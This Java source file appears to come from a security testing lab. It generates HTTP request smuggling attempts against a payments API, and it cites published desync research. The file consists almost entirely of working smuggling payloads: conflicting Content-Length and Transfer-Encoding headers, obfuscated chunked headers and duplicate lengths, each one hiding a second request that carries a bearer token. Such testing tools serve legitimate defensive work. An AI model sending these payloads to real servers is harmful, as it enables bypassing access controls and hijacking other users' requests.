package dev.orrery.lab.labs;

import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Requests that one reader ends here and another one there, so that their rest becomes a request of its own (C. Linhart et
 * al., HTTP Request Smuggling, 2005; J. Kettle, HTTP Desync Attacks, 2019).
 */
final class Smuggling {

    /** Stands in the path of every request that is to get in. */
    static final String INSIDE = "smuggled";

    private static final String END = "0\r\n\r\n";

    private Smuggling() {}

    /**
     * All attempts, whole.
     *
     * @param host the host that they name
     * @param token with which what they bring in could be read
     */
    static List<String> attempts(String host, String token) {
        var fields = "Host: " + host + "\r\nAuthorization: Bearer " + token + "\r\n";
        return IntStream.range(0, ways("").size())
                .mapToObj(number -> {
                    var inside = "GET /api/payments/" + INSIDE + "-" + number + " HTTP/1.1\r\n" + fields + "\r\n";
                    return "POST /api/payments/outside-" + number + " HTTP/1.1\r\n" + fields
                            + ways(inside).get(number);
                })
                .toList();
    }

    /** What follows the common fields. */
    private static List<String> ways(String inside) {
        int whole = (END + inside).length();
        // The length counts all of it, the chunks end before.
        var endsBefore = Stream.of(
                        "Content-Length: " + whole + "\r\nTransfer-Encoding: chunked",
                        "Content-Length: " + whole + "\r\nTransfer-Encoding : chunked",
                        "Content-Length: " + whole + "\r\nTransfer-Encoding: \u000bchunked",
                        "Content-Length: " + whole + "\r\nX: x\nTransfer-Encoding: chunked",
                        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: " + whole)
                .map(lengths -> lengths + "\r\n\r\n" + END + inside);
        // One length counts all of it, another one nothing.
        var twoLengths = Stream.of(
                        "Content-Length: 0\r\nContent-Length: " + inside.length(),
                        "Content-Length: " + inside.length() + ", 0",
                        "Content-Length: +" + inside.length())
                .map(lengths -> lengths + "\r\n\r\n" + inside);
        // The chunk counts all of it, the length only its first line.
        var firstLine = Integer.toHexString(inside.length()) + "\r\n";
        var endsInside = Stream.of("Transfer-Encoding: chunked\r\nContent-Length: " + firstLine.length() + "\r\n\r\n"
                + firstLine + inside + "\r\n" + END);
        return Stream.of(endsBefore, twoLengths, endsInside)
                .flatMap(each -> each)
                .toList();
    }
}
